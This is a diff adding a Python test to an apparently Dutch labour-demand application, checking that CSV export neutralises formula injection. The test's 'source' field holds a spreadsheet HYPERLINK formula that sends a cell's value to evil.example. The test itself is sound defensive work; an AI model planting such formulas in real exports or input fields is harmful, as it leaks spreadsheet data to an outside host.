@@ -228,3 +228,28 @@ def test_subscribing_to_a_whole_isco_group(twente: dict[str, Any]) -> None:
         actor=Actor.system("test"), organisation=twente["school"].organisation, occupation="7212"
     )
     assert sub.occupation_code == "7212"
+
+
+def test_a_statement_that_starts_like_a_formula_is_neutralised_in_the_csv(
+    twente: dict[str, Any], client: Client
+) -> None:
+    """Statements are free text of partners, opened by anybody in a spreadsheet (decision 011:
+    llo's one CSV writer puts a quote before a formula)."""
+    with time_machine.travel(NOW, tick=False):
+        demand.update(
+            actor=Actor.system("test"),
+            organisation=twente["rwc"],
+            pk=twente["statement"].pk,
+            data=demand.DemandInput(
+                region=TWENTE,
+                occupation="lasser",
+                people=120,
+                period_start=D(2027, 1, 1),
+                period_end=D(2027, 12, 31),
+                source='=HYPERLINK("http://evil.example/?"&A1;"Klik")',
+            ),
+        )
+        response = client.get(f"/api/v1/regions/{TWENTE}/demand", {"format": "csv"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
+    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
+    assert row["source"].startswith("'=HYPERLINK(")
